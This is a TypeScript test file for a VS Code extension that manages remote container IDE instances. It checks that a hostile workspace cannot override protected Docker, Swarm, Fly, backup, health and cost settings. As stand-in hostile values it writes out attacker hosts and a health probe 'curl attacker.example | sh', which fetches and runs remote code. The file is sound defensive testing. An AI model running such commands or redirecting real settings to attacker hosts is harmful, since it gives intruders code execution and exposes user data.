import assert from 'node:assert/strict';
import { loadGroupTemplates } from '../../src/core/groups/groupTemplates';
import { SwarmSettings } from '../../src/core/settings';
import { USER_ONLY_SETTINGS } from '../../src/core/userOnlySettings';
import { makeCore } from '../support/coreHarness';
import { contributedSettings, FakeConfiguration, packageManifest, type SettingValues } from '../support/fakeConfiguration';
import { MemoryProvider } from '../support/memoryProvider';
import { makeTempDir } from '../support/tempDir';

/** VS Code ignores a setting of these scopes in workspace and folder settings (WORKSPACE_SCOPES and FOLDER_SCOPES leave them out). */
const SCOPES_NO_WORKSPACE_SETS = ['application', 'machine'];

interface ProtectedCase {
  /** What the user set. */
  user: unknown;
  /** What a hostile workspace sets instead. */
  workspace: unknown;
  /** How the core reads it, where it takes effect. */
  read: (settings: SwarmSettings) => unknown;
}

const CASES: Record<string, ProtectedCase> = {
  'docker.host': { user: 'unix:///var/run/docker.sock', workspace: 'tcp://attacker.example:2375', read: (s) => s.providerSettings('docker').host },
  'docker.tlsVerify': { user: true, workspace: false, read: (s) => s.providerSettings('docker').tlsVerify },
  'docker.certPath': { user: '/home/me/.docker/build-box', workspace: '/tmp/attacker-ca', read: (s) => s.providerSettings('docker').certPath },
  'docker.defaultImage': {
    user: 'codercom/code-server:4.100.3',
    workspace: 'attacker/ide:latest',
    read: (s) => [s.defaultImage, s.providerSettings('docker').defaultImage],
  },
  'swarm.host': { user: 'ssh://me@manager', workspace: 'tcp://attacker.example:2375', read: (s) => s.providerSettings('swarm').host },
  'swarm.tlsVerify': { user: true, workspace: false, read: (s) => s.providerSettings('swarm').tlsVerify },
  'swarm.certPath': { user: '/home/me/.docker/swarm', workspace: '/tmp/attacker-ca', read: (s) => s.providerSettings('swarm').certPath },
  'swarm.nodeEngines': { user: { 'box-2': 'ssh://me@box-2' }, workspace: { 'box-2': 'tcp://attacker.example:2375' }, read: (s) => s.providerSettings('swarm').nodeEngines },
  'swarm.publishMode': { user: 'host', workspace: 'ingress', read: (s) => s.providerSettings('swarm').publishMode },
  'swarm.volumeDriver': { user: 'local', workspace: 'attacker-plugin', read: (s) => s.providerSettings('swarm').volumeDriver },
  'swarm.network': { user: 'mine', workspace: 'attacker-net', read: (s) => s.providerSettings('swarm').network },
  'swarm.traefik': { user: { domain: 'ide.example.com' }, workspace: { domain: 'attacker.example' }, read: (s) => s.providerSettings('swarm').traefik },
  'fly.org': { user: 'my-team', workspace: 'attacker-org', read: (s) => s.providerSettings('fly').org },
  'fly.apiUrl': { user: 'https://api.machines.dev', workspace: 'https://collector.attacker.example', read: (s) => s.providerSettings('fly').apiUrl },
  'fly.graphqlUrl': { user: 'https://api.fly.io', workspace: 'https://collector.attacker.example/graphql', read: (s) => s.providerSettings('fly').graphqlUrl },
  'backup.endpoint': { user: 'https://s3.eu-central-1.amazonaws.com', workspace: 'https://collector.attacker.example', read: (s) => backupSetting(s, 'endpoint') },
  'backup.bucket': { user: 'my-backups', workspace: 'attacker-bucket', read: (s) => backupSetting(s, 'bucket') },
  'backup.region': { user: 'eu-central-1', workspace: 'us-east-1', read: (s) => backupSetting(s, 'region') },
  'backup.pathStyle': { user: true, workspace: false, read: (s) => backupSetting(s, 'pathStyle') },
  'backup.partSizeMiB': { user: 8, workspace: 5000, read: (s) => backupSetting(s, 'partSizeMiB') },
  'health.execProbe': { user: ['pgrep', '-f', 'code-server'], workspace: ['sh', '-c', 'curl attacker.example | sh'], read: (s) => s.health().execProbe },
  'health.interval': { user: 60, workspace: 0, read: (s) => s.health().intervalMs },
  maxInstances: { user: 3, workspace: 500, read: (s) => s.maxInstances },
  groupTemplates: {
    user: [{ name: 'pair', coordinator: 'development', worker: 'agent', workers: 1 }],
    workspace: [{ name: 'agent-swarm', coordinator: 'development', worker: 'agent', workers: 500 }],
    read: (s) => loadGroupTemplates(s.groupTemplates).templates,
  },
  'idle.timeoutMinutes': { user: 30, workspace: 1, read: (s) => s.idle().timeoutMs },
  'idle.cpuThresholdPercent': { user: 25, workspace: 100, read: (s) => s.idle().cpuThresholdPercent },
  'idle.timeoutMinutesByTemplate': { user: { agent: 120 }, workspace: { agent: 0, development: 1 }, read: (s) => s.idle().timeoutMsByTemplate },
  'cost.pricePerHour': { user: { docker: 0.02 }, workspace: { docker: 1000, ssh: 1000 }, read: (s) => s.cost().pricePerHour },
  'cost.monthlyBudget': { user: 100, workspace: 0.01, read: (s) => s.cost().monthlyBudget },
  'cost.templateBudgets': { user: { agent: 50 }, workspace: { agent: 0.01, development: 0.01 }, read: (s) => s.cost().templateBudgets },
  'cost.stopWhenOverBudget': { user: false, workspace: true, read: (s) => s.cost().stopWhenOverBudget },
};

const backupSetting = (settings: SwarmSettings, key: string) => (settings.backup as Record<string, unknown> | undefined)?.[key];

const read = (key: string, user: SettingValues, workspace: SettingValues = {}) => CASES[key]!.read(new SwarmSettings(new FakeConfiguration(user, workspace).source()));

describe('settings a workspace cannot set', () => {
  it('are the settings package.json scopes so that no workspace sets them, and only those', () => {
    const scoped = Object.entries(contributedSettings).filter(([, property]) => SCOPES_NO_WORKSPACE_SETS.includes(property.scope ?? 'window'));
    assert.deepEqual(scoped.map(([key]) => key).sort(), [...USER_ONLY_SETTINGS].sort());
    assert.deepEqual(Object.keys(CASES).sort(), [...USER_ONLY_SETTINGS].sort(), 'each has a case below');
  });

  for (const [key, { user, workspace }] of Object.entries(CASES)) {
    it(`remoteSwarm.${key}: the user's value (or the default) is used, the workspace's is ignored`, () => {
      assert.ok(SCOPES_NO_WORKSPACE_SETS.includes(contributedSettings[key]?.scope ?? 'window'), `package.json gives remoteSwarm.${key} the scope application or machine`);
      assert.notDeepEqual(read(key, { [key]: workspace }), read(key, { [key]: user }), 'the case tells the two values apart');
      assert.deepEqual(read(key, { [key]: user }, { [key]: workspace }), read(key, { [key]: user }), 'over a user value');
      assert.deepEqual(read(key, {}, { [key]: workspace }), read(key, {}), 'over the default');
    });
  }

  it('any other setting a workspace sets still counts', () => {
    const settings = new SwarmSettings(new FakeConfiguration({ refreshInterval: 30, 'health.timeout': 5 }, { refreshInterval: 10, 'health.timeout': 2 }).source());
    assert.equal(settings.refreshIntervalSeconds, 10);
    assert.equal(settings.health().timeoutMs, 2000);
  });

  it('package.json limits the extension in an untrusted workspace, where no remoteSwarm setting of the workspace counts', () => {
    const untrusted = packageManifest.capabilities?.untrustedWorkspaces;
    assert.equal(untrusted?.supported, 'limited');
    assert.deepEqual([...(untrusted?.restrictedConfigurations ?? [])].sort(), Object.keys(contributedSettings).map((key) => `remoteSwarm.${key}`).sort());
  });
});

describe('remoteSwarm.maxInstances that is not a whole number', () => {
  for (const value of ['unlimited', '50', null, -1, 2.5, Number.NaN, Number.POSITIVE_INFINITY, { max: 1 }]) {
    it(`${typeof value === 'number' ? String(value) : JSON.stringify(value)} keeps the default limit of 10, never none`, () => {
      assert.equal(read('maxInstances', { maxInstances: value }), 10);
    });
  }

  it('still stops Create Instance at the default limit', async () => {
    const temp = makeTempDir();
    const core = await makeCore(temp.path, { memory: () => new MemoryProvider() });
    try {
      core.settings.maxInstances = 'unlimited' as unknown as number;
      for (let index = 1; index <= 10; index++) await core.controller.create({ provider: 'memory', name: `box-${index}` });
      await assert.rejects(core.controller.create({ provider: 'memory', name: 'box-11' }), { code: 'RESOURCE_LIMIT_EXCEEDED' });
      assert.equal(core.registry.size, 10);
    } finally {
      core.dispose();
      temp.remove();
    }
  });
});
